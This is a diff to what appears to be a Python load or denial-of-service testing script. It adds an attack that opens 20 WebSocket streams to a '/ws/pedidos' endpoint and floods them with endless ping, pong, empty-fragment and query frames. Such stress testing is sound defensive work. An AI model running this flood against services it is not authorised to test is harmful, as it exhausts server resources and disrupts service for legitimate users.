@@ -9,8 +9,10 @@ from __future__ import annotations
 
 import argparse
 import contextlib
+import itertools
 import os
 import resource
+import select
 import socket
 import ssl
 import subprocess
@@ -206,6 +208,49 @@ def silent_connections(door: Door) -> None:
             connection.sendall(b"GET / HTTP/1.1\r\nHos"[: 18 * (number % 2)])
     time.sleep(5)
     door.open.close()
+
+
+STREAMS = 20
+FRAMES = {
+    "a ping": b"\x89\x80key!",
+    "a pong": b"\x8a\x80key!",
+    "an empty fragment": b"\x00\x80key!",
+    "a question": b"\x81\x96\0\0\0\0" + b'{"type":"get_pedidos"}',
+}
+
+
+@attack("leitura")
+def frames_without_end(door: Door) -> None:
+    """Pings, pongs, questions and empty fragments without end on 20 streams."""
+    floods = dict.fromkeys((_stream(door) for _ in range(STREAMS)), b"")
+    for connection, frame in zip(floods, itertools.cycle(FRAMES.values())):
+        floods[connection] = frame * 5_000
+        if frame is FRAMES["an empty fragment"]:
+            connection.send(b"\x01\x80key!")  # begins the message
+        connection.setblocking(False)
+    try:
+        while floods:
+            for connection in select.select([], floods, [], 1)[1]:
+                try:
+                    connection.send(floods[connection])
+                except (BlockingIOError, ssl.SSLWantWriteError):
+                    pass
+                except OSError:
+                    del floods[connection]
+                    connection.close()
+    finally:
+        for connection in floods:
+            connection.close()
+
+
+def _stream(door: Door) -> socket.socket:
+    connection = door.connect()
+    upgrade = ("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13")
+    connection.sendall(door.head("GET", "/ws/pedidos", *upgrade, "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="))
+    if b" 101 " not in connection.recv(65536):
+        connection.close()
+        raise ConnectionError("no stream")
+    return connection
 
 
 # ---- running them
